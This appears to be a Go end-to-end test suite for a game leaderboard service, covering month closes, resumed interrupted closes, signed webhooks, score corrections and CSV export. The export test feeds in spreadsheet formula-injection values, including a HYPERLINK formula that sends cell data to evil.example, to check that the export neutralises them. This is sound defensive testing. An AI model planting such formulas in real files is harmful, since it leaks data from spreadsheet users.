package e2e_test

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/gamebackend/leaderboard"
	"github.com/gamebackend/leaderboard/app"
	"github.com/gamebackend/leaderboard/db"
	"github.com/gamebackend/leaderboard/internal/pgtest"
	"github.com/gamebackend/leaderboard/settlement"
)

const webhookSecret = "e2e-webhook-secret"

// seedPastMonth fills the month before the current one with players, as a
// month that ran while no instance was up, and returns it.
func seedPastMonth(t *testing.T, players int) string {
	t.Helper()
	month := previousMonth(t).month
	m, err := leaderboard.ParseMonth(month)
	if err != nil {
		t.Fatal(err)
	}
	store, err := db.Open(context.Background(), pg.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	if _, err := store.SeedPeriod(context.Background(), leaderboard.MainBoard, m.String(), players, db.SeedOptions{RandomSeed: 7}); err != nil {
		t.Fatal(err)
	}
	return month
}

// oracleDigest is the digest of month's standings computed from its scores
// by a plain sort, independently of the close.
func oracleDigest(t *testing.T, month string) string {
	t.Helper()
	conn := sqlConn(t)
	rows, err := conn.Query(context.Background(), `SELECT s.player_id, s.score FROM board_scores s
		JOIN periods p ON p.id = s.period_id AND p.board_id = 'main' AND p.key = $1
		ORDER BY s.sort_score, s.sort_subscore, s.reached_at, s.seq`, month)
	if err != nil {
		t.Fatal(err)
	}
	h := sha256.New()
	var (
		player string
		score  int
		rank   int
	)
	_, err = pgx.ForEachRow(rows, []any{&player, &score}, func() error {
		rank++
		fmt.Fprintf(h, "%d,%s,%d\n", rank, player, score)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// sqlConn returns a connection of the test's own to the database.
func sqlConn(t *testing.T) *pgx.Conn {
	t.Helper()
	conn, err := pgx.Connect(context.Background(), pg.URL)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close(context.Background()) })
	return conn
}

// waitForMonth polls month on s until done says so, for up to a minute. An
// UNAVAILABLE answer is waited out: right after the database comes back, a
// pooled connection may still be the broken one.
func waitForMonth(t *testing.T, s *server, month string, done func(*monthInfo) bool) *monthInfo {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for {
		var data struct {
			Month *monthInfo `json:"month"`
		}
		r := s.do(t, "", `query($m: Month!) { month(month: $m) { `+monthFields+` } }`, map[string]any{"m": month})
		switch codes := r.Codes(); {
		case len(codes) == 1 && codes[0] == "UNAVAILABLE":
		case len(codes) > 0 || r.Status != http.StatusOK:
			t.Fatalf("month %s: status %d: %s", month, r.Status, r.Body)
		default:
			if err := json.Unmarshal(r.Data, &data); err != nil {
				t.Fatalf("decode month %s: %v: %s", month, err, r.Data)
			}
		}
		if info := data.Month; info != nil && done(info) {
			return info
		}
		if time.Now().After(deadline) {
			t.Fatalf("month %s did not get there in a minute: %+v", month, data.Month)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func closed(info *monthInfo) bool { return info.Status == "CLOSED" }

// delivery is one request the webhook receiver got.
type delivery struct {
	id, signature, eventType string
	body                     []byte
}

// webhookReceiver is the studio's reward system: it answers 500 to the first
// failures requests and 204 after that, and keeps every request.
type webhookReceiver struct {
	*httptest.Server
	mu         sync.Mutex
	failures   int
	deliveries []delivery
}

func newWebhookReceiver(t *testing.T, failures int) *webhookReceiver {
	r := &webhookReceiver{failures: failures}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		body, _ := io.ReadAll(req.Body)
		r.mu.Lock()
		defer r.mu.Unlock()
		r.deliveries = append(r.deliveries, delivery{id: req.Header.Get(settlement.HeaderEventID),
			signature: req.Header.Get(settlement.HeaderSignature), eventType: req.Header.Get(settlement.HeaderEventType), body: body})
		if len(r.deliveries) <= r.failures {
			http.Error(w, "reward system busy", http.StatusInternalServerError)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *webhookReceiver) received() []delivery {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]delivery(nil), r.deliveries...)
}

// withLifecycle runs the instance as production does: months close by
// themselves right after their end, and messages go to receiver.
func withLifecycle(receiver *webhookReceiver) func(*app.Config) {
	return func(c *app.Config) {
		c.CloseGrace = 0
		c.AutoClose = true
		c.WebhookURL = receiver.URL
		c.WebhookSecret = webhookSecret
		c.WebhookBackoff = 20 * time.Millisecond
	}
}

// Two instances on one database find a past month due: it is ranked once,
// one month.closed message is delivered, retried after a failure with the
// same id and a valid signature, and its digest is the month's.
func TestLifecycle_TwoInstancesCloseAPastMonthOnceAndSettleIt(t *testing.T) {
	pg.Reset(t)
	month := seedPastMonth(t, 2000)
	want := oracleDigest(t, month)
	receiver := newWebhookReceiver(t, 1)
	a, _ := startInstance(t, withLifecycle(receiver))
	b, _ := startInstance(t, withLifecycle(receiver))

	info := waitForMonth(t, a, month, func(i *monthInfo) bool {
		return i.Settlement != nil && i.Settlement.Status == "DELIVERED"
	})
	if info.Digest == nil || *info.Digest != want || info.Participants != 2000 {
		t.Fatalf("closed month %+v; the oracle's digest is %s", info, want)
	}
	if info.Settlement.Attempts != 2 || info.Settlement.LastError != nil || !info.ClosesAt.Equal(info.EndsAt) {
		t.Errorf("settlement %+v, closesAt %s", info.Settlement, info.ClosesAt)
	}
	got := receiver.received()
	if len(got) != 2 || got[0].id != got[1].id || string(got[0].body) != string(got[1].body) {
		t.Fatalf("deliveries %+v", got)
	}
	for _, d := range got {
		if !settlement.Verify([]byte(webhookSecret), d.body, d.signature) || d.eventType != "month.closed" {
			t.Errorf("delivery %s: signature %q, type %q", d.id, d.signature, d.eventType)
		}
	}
	var body struct {
		ID, Type, Month, Digest string
		Participants            int
		Top                     []struct {
			Rank     int    `json:"rank"`
			PlayerID string `json:"playerId"`
		}
	}
	if err := json.Unmarshal(got[0].body, &body); err != nil {
		t.Fatal(err)
	}
	if body.ID != got[0].id || body.Type != "month.closed" || body.Month != month || body.Digest != want ||
		body.Participants != 2000 || len(body.Top) != 100 || body.Top[99].Rank != 100 {
		t.Errorf("message body %s", got[0].body)
	}
	checkRankedOnce(t, month)
	top := body.Top[0].PlayerID
	for _, s := range []*server{a, b} {
		if st := s.standing(t, month, top); st == nil || st.Rank != 1 || !st.Final {
			t.Errorf("instance %s: the top player's standing %+v", s.url, st)
		}
	}
}

// closeMonth's caller gives up after 100 ms, while the close cannot finish
// yet (another session holds its lock): the close goes on to CLOSED.
func TestLifecycle_CloseOutlivesItsCaller(t *testing.T) {
	pg.Reset(t)
	month := seedPastMonth(t, 1000)
	conn := holdCloseLock(t, month)
	s, _ := startInstance(t)
	s.month(t, month) // a warm connection, so the request reaches the resolver at once
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()
	body := mustJSON(t, map[string]any{"query": `mutation($m: Month!) { closeMonth(month: $m) { status } }`,
		"variables": map[string]any{"m": month}})
	header := http.Header{"Authorization": {"Bearer " + adminToken}, "Content-Type": {"application/json"}}
	if resp, err := s.tryPost(ctx, header, body); err == nil {
		t.Fatalf("closeMonth answered within 100 ms while its lock was held: %+v", resp)
	}
	time.Sleep(500 * time.Millisecond)
	if _, err := conn.Exec(context.Background(), `SELECT pg_advisory_unlock_all()`); err != nil {
		t.Fatal(err)
	}
	info := waitForMonth(t, s, month, closed)
	if want := oracleDigest(t, month); info.Digest == nil || *info.Digest != want {
		t.Fatalf("digest %v, oracle %s", info.Digest, want)
	}
}

// holdCloseLock takes month's close lock on a connection of the test's own,
// standing for an instance whose close takes long, and returns it.
func holdCloseLock(t *testing.T, month string) *pgx.Conn {
	t.Helper()
	conn := sqlConn(t)
	// The close lock of a period (db/periodclose.go): "lbpc" and its id.
	const lock = `SELECT pg_advisory_lock(x'6c627063'::int, id) FROM periods WHERE board_id = 'main' AND key = $1`
	if _, err := conn.Exec(context.Background(), lock, month); err != nil {
		t.Fatal(err)
	}
	return conn
}

// closeMonth answers CLOSING after its wait when the close takes longer, and
// CLOSED once it is done; a second caller joins the same job.
func TestLifecycle_CloseMonthAnswersClosingThenClosed(t *testing.T) {
	pg.Reset(t)
	month := seedPastMonth(t, 1000)
	conn := holdCloseLock(t, month)
	s, _ := startInstance(t, func(c *app.Config) { c.CloseWait = 300 * time.Millisecond })
	if info := s.closeMonth(t, month); info.Status != "OPEN" && info.Status != "CLOSING" {
		t.Fatalf("with the close running elsewhere, closeMonth answered %+v", info)
	}
	if _, err := conn.Exec(context.Background(), `SELECT pg_advisory_unlock_all()`); err != nil {
		t.Fatal(err)
	}
	waitForMonth(t, s, month, closed)
	if info := s.closeMonth(t, month); info.Status != "CLOSED" || info.Digest == nil {
		t.Fatalf("closing a closed month: %+v", info)
	}
}

// The instance that closes a month answers it from memory from the close's
// answer on: the table its close built from its own read is installed at the
// commit, not loaded after it.
func TestLifecycle_ClosedMonthIsInMemoryWhenTheCloseAnswers(t *testing.T) {
	pg.Reset(t)
	month := seedPastMonth(t, 1000)
	s, _ := startInstance(t)
	if info := s.closeMonth(t, month); info.Status != "CLOSED" || info.Participants != 1000 {
		t.Fatalf("closeMonth: %+v", info)
	}
	_, body := s.get(t, "/metrics")
	if !strings.Contains(body, "leaderboard_closed_months_players 1000") {
		t.Errorf("right after the close, /metrics does not hold the month's 1000 players in memory:\n%s",
			grepLines(body, "leaderboard_closed_month"))
	}
}

// grepLines returns the lines of text that contain fragment.
func grepLines(text, fragment string) string {
	var out []string
	for _, line := range strings.Split(text, "\n") {
		if strings.Contains(line, fragment) {
			out = append(out, line)
		}
	}
	return strings.Join(out, "\n")
}

// waitForQuery waits until a session runs a statement containing fragment,
// and returns its process id.
func waitForQuery(t *testing.T, conn *pgx.Conn, fragment string) int {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for time.Now().Before(deadline) {
		var pid int
		err := conn.QueryRow(context.Background(), `SELECT pid FROM pg_stat_activity
			WHERE state = 'active' AND pid <> pg_backend_pid() AND query LIKE '%' || $1 || '%' LIMIT 1`, fragment).Scan(&pid)
		if err == nil {
			return pid
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("no session ran %q within a minute", fragment)
	return 0
}

// A close cut off halfway, by its database session dying or by its instance
// stopping, is resumed: by the same instance's scheduler, or by the next
// instance at its start, and gives the digest of an undisturbed close.
func TestLifecycle_InterruptedCloseIsResumed(t *testing.T) {
	for _, c := range []struct {
		name      string
		interrupt func(t *testing.T, conn *pgx.Conn, pid int, m *app.Main)
		restart   bool
	}{
		{"SessionKilled", func(t *testing.T, conn *pgx.Conn, pid int, _ *app.Main) {
			if _, err := conn.Exec(context.Background(), `SELECT pg_terminate_backend($1)`, pid); err != nil {
				t.Fatal(err)
			}
		}, false},
		{"InstanceStopped", func(t *testing.T, _ *pgx.Conn, _ int, m *app.Main) {
			if err := m.Close(); err != nil {
				t.Fatal(err)
			}
		}, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			pg.Reset(t)
			month := seedPastMonth(t, 60000)
			want := oracleDigest(t, month)
			conn := sqlConn(t)
			s, m := startInstance(t, func(c *app.Config) { c.CloseGrace = 0; c.AutoClose = true })
			pid := waitForQuery(t, conn, closeReadFragment)
			c.interrupt(t, conn, pid, m)
			var status string
			if err := conn.QueryRow(context.Background(), `SELECT status FROM periods WHERE board_id = 'main' AND key = $1`,
				month).Scan(&status); err != nil || status == "CLOSED" {
				t.Fatalf("the close was not interrupted: %s, %v", status, err)
			}
			if c.restart {
				s, _ = startInstance(t)
			}
			info := waitForMonth(t, s, month, closed)
			if info.Digest == nil || *info.Digest != want || info.Participants != 60000 {
				t.Fatalf("resumed close: %+v, oracle digest %s", info, want)
			}
		})
	}
}

// The export of a closed month streams its standings as CSV, equal to the
// leaderboard's pages, with a quote in front of ids and names a spreadsheet
// would run as formulas; docs/api.md's recipe hashes it to the digest. An
// open month answers 409, no token 401, another role 403.
func TestLifecycle_ExportCSV(t *testing.T) {
	s := startServer(t)
	c := currentMonth(t)
	for i := range 25 {
		s.submit(t, named(ev(fmt.Sprint("e", i), fmt.Sprint("p", i), "SET", (i*37)%11, c.at(i%4)), fmt.Sprint("P, \"", i)))
	}
	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd`, `@SUM(1+1)`, `-1`, `'=quoted`}
	for i, text := range hostile {
		s.submit(t, named(ev(fmt.Sprint("h", i), text, "SET", 20+i, c.at(i)), text))
	}
	path := "/admin/months/" + c.month + "/standings.csv"
	get := func(token string) (int, http.Header, string) {
		req, _ := http.NewRequest(http.MethodGet, s.url+path, nil)
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := s.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, resp.Header, string(body)
	}
	if status, _, body := get(adminToken); status != http.StatusConflict || !strings.Contains(body, "CONFLICT") {
		t.Errorf("export of an open month: %d %s", status, body)
	}
	if status, _, _ := get(""); status != http.StatusUnauthorized {
		t.Errorf("export without a token: %d", status)
	}
	if status, _, _ := get(serverToken); status != http.StatusForbidden {
		t.Errorf("export with the game-server token: %d", status)
	}
	info := s.closeMonth(t, c.month)
	if info.Digest == nil {
		t.Fatalf("closed month without a digest: %+v", info)
	}
	status, header, body := get(adminToken)
	if status != http.StatusOK || !strings.HasPrefix(header.Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %d %v", status, header)
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || strings.Join(records[0], ",") != "rank,player_id,player_name,score,reached_at,percentile" || len(records) != 31 {
		t.Fatalf("export (%v):\n%s", err, body)
	}
	// What a spreadsheet shows: an added quote makes a cell text.
	cell := func(text string) string {
		if strings.ContainsAny(text[:1], "=+-@'") {
			return "'" + text
		}
		return text
	}
	page := s.leaderboard(t, c.month, 100, nil)
	h := sha256.New()
	for i, e := range page.Edges {
		r := records[i+1]
		if r[0] != fmt.Sprint(e.Node.Rank) || r[1] != cell(e.Node.Player.ID) || r[2] != cell(*e.Node.Player.Name) || r[3] != fmt.Sprint(e.Node.Score) {
			t.Errorf("line %d %q, page row %+v", i+1, r, e.Node)
		}
		fmt.Fprintf(h, "%d,%s,%d\n", e.Node.Rank, e.Node.Player.ID, e.Node.Score)
	}
	if got := hex.EncodeToString(h.Sum(nil)); got != *info.Digest {
		t.Errorf("pages hash to %s, digest %s", got, *info.Digest)
	}
	if got := runDigestRecipe(t, body); got != *info.Digest {
		t.Errorf("docs/api.md's recipe hashes the export to %q, digest %s", got, *info.Digest)
	}
	if status, _, _ := get(adminToken + "x"); status != http.StatusUnauthorized {
		t.Errorf("export with a wrong token: %d", status)
	}
}

// runDigestRecipe runs the shell recipe of docs/api.md's Export section, as
// a reader would copy it, on export and returns the digest it prints.
func runDigestRecipe(t *testing.T, export string) string {
	t.Helper()
	doc, err := os.ReadFile("../docs/api.md")
	if err != nil {
		t.Fatal(err)
	}
	_, block, ok := strings.Cut(string(doc), "<!-- digest-recipe")
	block, _, ok2 := strings.Cut(block, "<!-- /digest-recipe -->")
	_, recipe, ok3 := strings.Cut(block, "```sh\n")
	recipe, _, ok4 := strings.Cut(recipe, "```")
	if !ok || !ok2 || !ok3 || !ok4 {
		t.Fatal("docs/api.md has no sh block between <!-- digest-recipe --> markers")
	}
	// The recipe reads the export from the file the documentation names.
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "2026-10.csv"), []byte(export), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("sh", "-c", recipe)
	cmd.Dir = dir
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil || stderr.Len() > 0 {
		t.Fatalf("recipe: %v %s\n%s", err, stderr.String(), recipe)
	}
	digest, _, _ := strings.Cut(string(out), " ")
	return digest
}

// correct runs correctScore as the admin.
func (s *server) correct(t *testing.T, month, playerID string, score *int, reason string) *response {
	t.Helper()
	return s.do(t, adminToken, `mutation($m: Month!, $p: ID!, $s: Int, $r: String!) {
		correctScore(month: $m, playerId: $p, score: $s, reason: $r) { id month playerId before after reason at } }`,
		map[string]any{"m": month, "p": playerID, "s": score, "r": reason})
}

// Removing the winner of a closed month: both instances serve the rebuilt
// table, the digest changes to the corrected standings', and month.corrected
// reaches the webhook after month.closed.
func TestLifecycle_CorrectionOfAClosedMonthReachesEveryInstance(t *testing.T) {
	pg.Reset(t)
	month := seedPastMonth(t, 500)
	receiver := newWebhookReceiver(t, 0)
	a, _ := startInstance(t, withLifecycle(receiver))
	b, _ := startInstance(t, withLifecycle(receiver))
	closedInfo := waitForMonth(t, a, month, func(i *monthInfo) bool {
		return i.Settlement != nil && i.Settlement.Status == "DELIVERED"
	})
	top := a.leaderboard(t, month, 2, nil)
	winner, second := top.Edges[0].Node.Player.ID, top.Edges[1].Node.Player.ID
	for _, s := range []*server{a, b} {
		if st := s.standing(t, month, winner); st == nil || st.Rank != 1 {
			t.Fatalf("before the correction, %s: %+v", s.url, st)
		}
	}
	awaitMonthInMemory(t, a, 500)
	resp := a.correct(t, month, winner, nil, "aimbot, ticket 4411")
	if len(resp.Errors) > 0 {
		t.Fatalf("correctScore: %+v", resp.Errors)
	}
	// The instance that made the correction answers with it at once: its
	// memory follows the correction before the correction's answer, not
	// when the announcement comes.
	if gone, st := a.standing(t, month, winner), a.standing(t, month, second); gone != nil || st == nil || st.Rank != 1 || st.Total != 499 {
		t.Fatalf("right after the correction, the instance that made it: winner %+v, second %+v", gone, st)
	}
	for _, s := range []*server{a, b} {
		deadline := time.Now().Add(30 * time.Second)
		for {
			gone, st := s.standing(t, month, winner), s.standing(t, month, second)
			if gone == nil && st != nil && st.Rank == 1 && st.Total == 499 {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("instance %s still serves the old ranks: winner %+v, second %+v", s.url, gone, st)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	info := waitForMonth(t, b, month, func(i *monthInfo) bool {
		return i.Settlement != nil && i.Settlement.Status == "DELIVERED" && *i.Digest != *closedInfo.Digest
	})
	if want := oracleDigest(t, month); *info.Digest != want || info.Participants != 499 {
		t.Errorf("after the correction: %+v, oracle digest %s", info, want)
	}
	got := receiver.received()
	if len(got) != 2 || got[0].eventType != "month.closed" || got[1].eventType != "month.corrected" || got[0].id == got[1].id {
		t.Fatalf("deliveries %+v", got)
	}
	var body struct {
		Digest     string
		Correction struct {
			PlayerID string
			Reason   string
		}
	}
	if err := json.Unmarshal(got[1].body, &body); err != nil || body.Digest != *info.Digest || body.Correction.PlayerID != winner {
		t.Errorf("month.corrected body %s, %v", got[1].body, err)
	}
	var list struct {
		Corrections []struct {
			PlayerID string `json:"playerId"`
			Before   *int   `json:"before"`
			After    *int   `json:"after"`
			Reason   string `json:"reason"`
		} `json:"corrections"`
	}
	b.mustDo(t, adminToken, `query($m: Month!) { corrections(month: $m) { playerId before after reason } }`,
		map[string]any{"m": month}, &list)
	if len(list.Corrections) != 1 || list.Corrections[0].PlayerID != winner || list.Corrections[0].After != nil ||
		list.Corrections[0].Before == nil || list.Corrections[0].Reason != "aimbot, ticket 4411" {
		t.Errorf("corrections %+v", list.Corrections)
	}
}

// awaitMonthInMemory waits until s holds a closed period of players
// players in memory, as its /metrics say.
func awaitMonthInMemory(t *testing.T, s *server, players int) {
	t.Helper()
	want := fmt.Sprintf("\nleaderboard_closed_months_players %d\n", players)
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if _, metrics := s.get(t, "/metrics"); strings.Contains(metrics, want) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s did not hold a closed period of %d players in memory", s.url, players)
		}
	}
}

// A player removed from the open month has their later events REJECTED
// with FORBIDDEN; only the admin may correct or list corrections.
func TestLifecycle_RemovedPlayerIsRefusedAndCorrectionsNeedTheAdmin(t *testing.T) {
	s := startServer(t)
	c := currentMonth(t)
	s.submit(t, ev("1", "cheat", "SET", 900, c.at(1)), ev("2", "fair", "SET", 10, c.at(1)))
	for _, token := range []string{"", serverToken, playerToken(t, "fair")} {
		resp := s.do(t, token, `mutation { correctScore(month: "`+c.month+`", playerId: "cheat", reason: "x") { id } }`, nil)
		if codes := resp.Codes(); len(codes) != 1 || (codes[0] != "UNAUTHENTICATED" && codes[0] != "FORBIDDEN") {
			t.Errorf("correctScore with token %.10q: %v", token, codes)
		}
		resp = s.do(t, token, `{ corrections(month: "`+c.month+`") { id } }`, nil)
		if codes := resp.Codes(); len(codes) != 1 || (codes[0] != "UNAUTHENTICATED" && codes[0] != "FORBIDDEN") {
			t.Errorf("corrections with token %.10q: %v", token, codes)
		}
	}
	if resp := s.correct(t, c.month, "cheat", nil, "speed hack"); len(resp.Errors) > 0 {
		t.Fatalf("correctScore: %+v", resp.Errors)
	}
	results := s.submit(t, ev("3", "cheat", "ADD", 5, c.at(2)), ev("4", "fair", "ADD", 5, c.at(2)))
	if r := results[0]; r.Status != "REJECTED" || r.Code == nil || *r.Code != "FORBIDDEN" {
		t.Errorf("the removed player's event: %+v", r)
	}
	if r := results[1]; r.Status != "APPLIED" || *r.Rank != 1 {
		t.Errorf("the other event: %+v", r)
	}
	for _, bad := range []struct {
		score  *int
		reason string
		code   string
	}{{new(10001), "r", "BAD_USER_INPUT"}, {new(5), "", "BAD_USER_INPUT"}, {nil, "r", "NOT_FOUND"}} {
		player := "fair"
		if bad.code == "NOT_FOUND" {
			player = "nobody"
		}
		if codes := s.correct(t, c.month, player, bad.score, bad.reason).Codes(); len(codes) != 1 || codes[0] != bad.code {
			t.Errorf("correctScore(%v, %q): %v, want %s", bad.score, bad.reason, codes, bad.code)
		}
	}
}

// A close whose process is killed with SIGKILL halfway is resumed by the
// next instance and gives the digest of an undisturbed close.
func TestLifecycle_CloseOfAKilledProcessIsResumed(t *testing.T) {
	pg.Reset(t)
	month := seedPastMonth(t, 60000)
	want := oracleDigest(t, month)
	conn := sqlConn(t)
	child := exec.Command(os.Args[0], "-test.run=^$")
	child.Env = append(os.Environ(), childEnv+"=serve", "DATABASE_URL="+pg.URL, "LISTEN_ADDR=127.0.0.1:0",
		"LEADERBOARD_CLOSE_GRACE=0s", "LEADERBOARD_AUTO_CLOSE=true", "LEADERBOARD_SCHEDULER_INTERVAL=100ms")
	child.Stdout, child.Stderr = t.Output(), t.Output()
	if err := child.Start(); err != nil {
		t.Fatal(err)
	}
	waitForQuery(t, conn, closeReadFragment)
	if err := child.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	child.Wait()
	var status string
	if err := conn.QueryRow(context.Background(), `SELECT status FROM periods WHERE board_id = 'main' AND key = $1`,
		month).Scan(&status); err != nil || status != "CLOSING" {
		t.Fatalf("after the kill the month is %s, %v; want CLOSING", status, err)
	}
	s, _ := startInstance(t)
	info := waitForMonth(t, s, month, closed)
	if info.Digest == nil || *info.Digest != want || info.Participants != 60000 {
		t.Fatalf("resumed close: %+v, oracle digest %s", info, want)
	}
	var version int
	if err := conn.QueryRow(context.Background(), `SELECT ranks_version FROM periods WHERE board_id = 'main' AND key = $1`,
		month).Scan(&version); err != nil || version != 1 {
		t.Errorf("ranks_version %d, %v: the month was ranked more than once", version, err)
	}
}

// A close cut off by its database stopping (docker stop: every session ends,
// the close's transaction rolls back) is resumed once the database is back,
// by the instance that ran all along: ranked once, with the digest of an
// undisturbed close.
func TestLifecycle_CloseInterruptedByADatabaseStopIsResumed(t *testing.T) {
	shared := pg
	pg = pgtest.StartStoppable(t) // the helpers below use this database
	t.Cleanup(func() { pg = shared })
	month := seedPastMonth(t, 60000)
	want := oracleDigest(t, month)
	s, _ := startInstance(t, func(c *app.Config) { c.CloseGrace = 0; c.AutoClose = true })
	waitForQuery(t, sqlConn(t), closeReadFragment)
	pg.Stop(t)
	stopped := time.Now()
	pg.Resume(t)
	info := waitForMonth(t, s, month, closed)
	if info.Digest == nil || *info.Digest != want || info.Participants != 60000 {
		t.Fatalf("resumed close: %+v, oracle digest %s", info, want)
	}
	if info.ClosedAt == nil || !info.ClosedAt.After(stopped) {
		t.Errorf("closed at %v, before the database stopped at %v: the stop did not interrupt the close", info.ClosedAt, stopped)
	}
	var version int
	if err := sqlConn(t).QueryRow(context.Background(), `SELECT ranks_version FROM periods WHERE board_id = 'main' AND key = $1`,
		month).Scan(&version); err != nil || version != 1 {
		t.Errorf("ranks_version %d, %v: the month was ranked more than once", version, err)
	}
}

// closeReadFragment is a LIKE pattern of the statement with which a close
// reads its period's scores, on any board (db/rankrows.go): waitForQuery
// finds a close in the middle of its read by it. A load of a closed period
// into memory reads binary COPY too, but from its final ranks.
const closeReadFragment = "FROM board_scores WHERE period_id = %) TO STDOUT WITH (FORMAT binary)"
